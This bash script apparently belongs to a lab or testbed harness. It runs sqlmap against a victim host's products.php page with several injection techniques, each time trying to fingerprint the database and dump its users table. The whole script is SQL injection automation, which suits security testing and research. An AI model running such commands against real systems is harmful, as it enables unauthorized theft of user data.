#!/usr/bin/env bash
# SQL injection with sqlmap against the product page: detection, fingerprint, then dumping the users
# table, once per technique while the budget lasts (a fresh session each time, so every run probes).
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
for tech in BEU B U BEUST BU; do
  [ "$(tb_left)" -gt 3 ] || break
  tb_run "$TB_NS" sqlmap -u "http://$TB_VICTIM/products.php?id=1" --batch --flush-session --technique="$tech" \
    --level 2 --risk 1 --threads 2 --timeout 5 --retries 0 --time-sec 1 --dbms sqlite --dump -T users \
    --output-dir "$TB_STATE/sqlmap" > "$TB_STATE/sqlmap-$tech.log" 2>&1
done
